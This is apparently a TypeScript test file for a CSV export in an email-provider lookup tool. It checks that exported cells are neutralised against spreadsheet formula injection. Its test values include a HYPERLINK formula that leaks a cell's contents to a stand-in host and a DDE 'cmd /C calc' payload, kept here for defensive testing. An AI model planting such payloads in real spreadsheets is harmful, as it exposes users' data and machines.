import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { COLUMNS } from '#address-table/formats.ts';
import type { LookupResult } from '#extension/lookup-result.ts';
import { HOSTED_GMAIL_INFO } from '#test/fixtures/hosted-examples.ts';
import { APPENDED_COLUMNS, bulkCsv, bulkRows } from './bulk-export.ts';
import { type BulkList, type CsvList, readCsvFile, readPastedList } from './bulk-list.ts';

const FOUND: LookupResult = { state: 'found', info: HOSTED_GMAIL_INFO, source: 'api', fetchedAt: 0 };
const NOT_FOUND: LookupResult = {
  state: 'not-found',
  reason: 'no-mx',
  message: 'x',
  source: 'api',
  fetchedAt: 0,
};
const BOM = '\uFEFF';

/** A file the test knows holds a CSV. */
function csvFile(text: string): CsvList {
  const list = readCsvFile(text);
  if (!list) throw new Error(`no CSV in ${JSON.stringify(text)}`);
  return list;
}

/** The list's CSV with these answers, as the page builds it: from the rows its table shows. */
function csvWith(list: BulkList, results: Record<string, LookupResult | null>): string {
  return bulkCsv(list, bulkRows(list, results, '{address}'));
}

/** The export read back as a spreadsheet would: its header, and its rows as records of cells. */
function readBack(csv: string, delimiter = ',') {
  const [header = [], ...rows] = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), {
    delimiter,
    skipEmptyLines: true,
  }).data;
  const cell = (row: string[] | undefined, column: string) => row?.[header.indexOf(column)];
  return { header, rows, cell };
}

describe('the list with its answers, as CSV', () => {
  it('a person’s CSV: its columns first and its rows in order, the answer’s appended, empty without an address', () => {
    const list = readPastedList(
      'Name,Email\nJane,jane@gmail.com\nNo one,\n=Bob,Bob@Nowhere.example.com\nJane again,JANE@gmail.com\n',
    );
    const csv = csvWith(list, { 'gmail.com': FOUND, 'nowhere.example.com': NOT_FOUND });
    const { header, rows, cell } = readBack(csv);
    expect(header).toEqual(['Name', 'Email', ...APPENDED_COLUMNS]);
    expect(rows.map((row) => row.slice(0, 2))).toEqual([
      ['Jane', 'jane@gmail.com'],
      ['No one', ''],
      // A cell a spreadsheet would run as a formula comes back as text.
      ["'=Bob", 'Bob@Nowhere.example.com'],
      ['Jane again', 'JANE@gmail.com'],
    ]);
    expect(cell(rows[0], 'provider')).toBe('Gmail');
    expect(cell(rows[0], 'free_mail')).toBe('true');
    expect(rows[1]?.slice(2).every((value) => value === '')).toBe(true);
    expect(cell(rows[2], 'status')).toBe('not-found');
    expect(cell(rows[3], 'provider')).toBe('Gmail');
  });

  it('rows shorter than the header are filled, so the answer’s columns stay in place', () => {
    const csv = csvWith(csvFile('Email,Name,Notes\njane@gmail.com\n'), { 'gmail.com': FOUND });
    const { header, rows, cell } = readBack(csv);
    expect(rows[0]?.length).toBe(header.length);
    expect(rows[0]?.slice(0, 3)).toEqual(['jane@gmail.com', '', '']);
    expect(cell(rows[0], 'domain')).toBe('gmail.com');
  });

  it('a row longer than the header: the answers stay under their own headers, after the widest row', () => {
    const list = csvFile('Name,Email,Score\r\nBob,bob@gmail.com,-5,extra note\r\nJane,jane@gmail.com,7\r\n');
    const { header, rows, cell } = readBack(csvWith(list, { 'gmail.com': FOUND }));
    expect(header).toEqual(['Name', 'Email', 'Score', '', ...APPENDED_COLUMNS]);
    expect(rows.map((row) => row.slice(0, 4))).toEqual([
      ['Bob', 'bob@gmail.com', '-5', 'extra note'],
      ['Jane', 'jane@gmail.com', '7', ''],
    ]);
    for (const row of rows) {
      expect(row).toHaveLength(header.length);
      expect([cell(row, 'domain'), cell(row, 'free_mail'), cell(row, 'privacy_relay')]).toEqual([
        'gmail.com',
        'true',
        'false',
      ]);
    }
  });

  it('a row whose address is out of its column comes back as it was, with no answer', () => {
    const list = csvFile('Name,Email,Company\nJane,jane@gmail.com,Acme\nBob,,bob@gmail.com,Bobco\n');
    const { rows } = readBack(csvWith(list, { 'gmail.com': FOUND }));
    expect(rows[1]?.slice(0, 4)).toEqual(['Bob', '', 'bob@gmail.com', 'Bobco']);
    expect(rows[1]?.slice(4).every((value) => value === '')).toBe(true);
  });

  it('a person’s numbers and phone numbers come back as they were; their formulas come back as text', () => {
    const values = {
      '-5': '-5',
      '+44 20 7946 0000': '+44 20 7946 0000',
      '-1,5': '-1,5',
      '+1 (555) 010-0199': '+1 (555) 010-0199',
      '-12.5%': '-12.5%',
      '=HYPERLINK("https://evil.example/?"&A1)': `'=HYPERLINK("https://evil.example/?"&A1)`,
      '@SUM(1+1)': "'@SUM(1+1)",
      "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
      '+A1': "'+A1",
      '\t=1+1': "'\t=1+1",
      '\r=1+1': "'\r=1+1",
      // papaparse's own pattern (`^[=+\-@\t\r].*$`) lets this one through: `.` stops at the line break.
      '=1+1\nmore': "'=1+1\nmore",
    };
    const file = Papa.unparse([
      ['Email', 'Value'],
      ...Object.keys(values).map((value, index) => [`p${index}@gmail.com`, value]),
    ]);
    const { rows } = readBack(csvWith(csvFile(file), { 'gmail.com': FOUND }));
    expect(rows.map((row) => row[1])).toEqual(Object.values(values));
  });

  it('what the service says is made inert in the answer’s cells, whatever it starts with', () => {
    const hostile: LookupResult = {
      ...FOUND,
      info: { ...HOSTED_GMAIL_INFO, nice_name: '=HYPERLINK("https://evil.example")', name: '-5' },
    };
    const list = csvFile('Email\njane@gmail.com\n');
    const { rows, cell } = readBack(csvWith(list, { 'gmail.com': hostile }));
    expect([cell(rows[0], 'provider'), cell(rows[0], 'provider_name')]).toEqual([
      `'=HYPERLINK("https://evil.example")`,
      "'-5",
    ]);
  });

  it('a semicolon file, as Excel writes CSV where the decimal mark is a comma, stays one, with its byte-order mark', () => {
    const file = `${BOM}Name;E-Mail;Betrag\r\n"Doe; Jane";jane@gmail.com;-1,5\r\nBob;bob@gmail.com\r\n`;
    const csv = csvWith(csvFile(file), { 'gmail.com': FOUND });
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe(['Name', 'E-Mail', 'Betrag', ...APPENDED_COLUMNS].join(';'));
    const { rows, cell } = readBack(csv, ';');
    expect(rows.map((row) => row.slice(0, 3))).toEqual([
      ['Doe; Jane', 'jane@gmail.com', '-1,5'],
      ['Bob', 'bob@gmail.com', ''],
    ]);
    expect(rows.map((row) => cell(row, 'provider'))).toEqual(['Gmail', 'Gmail']);
  });

  it('a tab-separated file stays one, and a file without a byte-order mark gets none', () => {
    const csv = csvWith(csvFile('Name\tEmail\nJane\tjane@gmail.com\n'), { 'gmail.com': FOUND });
    expect(csv.split('\r\n')[0]).toBe(['Name', 'Email', ...APPENDED_COLUMNS].join('\t'));
    expect(csv.startsWith(BOM)).toBe(false);
  });

  it('any CSV: its values back unchanged and in order, the answers under their headers after the widest row', () => {
    // Cells with the file's own delimiter, quotes and line breaks; none starts as a formula would.
    const cell = (delimiter: string) =>
      fc
        .array(fc.constantFrom('a', 'Z', 'é', '7', ' ', '"', "'", '\n', delimiter), { maxLength: 6 })
        .map((characters) => characters.join(''))
        .filter((text) => !/^[\t\n]/.test(text));
    const file = fc
      .record({
        delimiter: fc.constantFrom(',', ';', '\t'),
        newline: fc.constantFrom('\r\n', '\n'),
        byteOrderMark: fc.boolean(),
      })
      .chain((dialect) =>
        fc.record({
          dialect: fc.constant(dialect),
          // Each row: a cell, its address, then 0 to 4 more: shorter and longer than the header of 3.
          rows: fc.array(
            fc.tuple(cell(dialect.delimiter), fc.array(cell(dialect.delimiter), { maxLength: 4 })),
            {
              minLength: 1,
              maxLength: 8,
            },
          ),
        }),
      );
    fc.assert(
      fc.property(file, ({ dialect, rows }) => {
        const people = rows.map(([first, rest], index) => [first, `p${index}@gmail.com`, ...rest]);
        const text = Papa.unparse([['Name', 'Email', 'Notes'], ...people], dialect);
        const list = csvFile(`${dialect.byteOrderMark ? BOM : ''}${text}`);
        const csv = csvWith(list, { 'gmail.com': FOUND });
        expect(csv.startsWith(BOM)).toBe(dialect.byteOrderMark);
        const back = readBack(csv, dialect.delimiter);
        const width = Math.max(3, ...people.map((row) => row.length));
        const filled = (cells: string[]) => [...cells, ...Array<string>(width - cells.length).fill('')];
        expect(back.header).toEqual([...filled(['Name', 'Email', 'Notes']), ...APPENDED_COLUMNS]);
        expect(back.rows.map((row) => row.slice(0, width))).toEqual(people.map(filled));
        expect(back.rows.map((row) => back.cell(row, 'domain'))).toEqual(people.map(() => 'gmail.com'));
      }),
    );
  });

  it('free text: the address table’s CSV, one row per address, a domain not looked up says so', () => {
    const list = readPastedList('jane@gmail.com, bob@later.example.com');
    const { header, rows } = readBack(csvWith(list, { 'gmail.com': FOUND }));
    expect(header).toEqual([...COLUMNS]);
    expect(rows.map((row) => [row[0], row[2], row[9]])).toEqual([
      ['jane@gmail.com', 'Gmail', 'found'],
      ['bob@later.example.com', '', 'not-looked-up'],
    ]);
  });
});
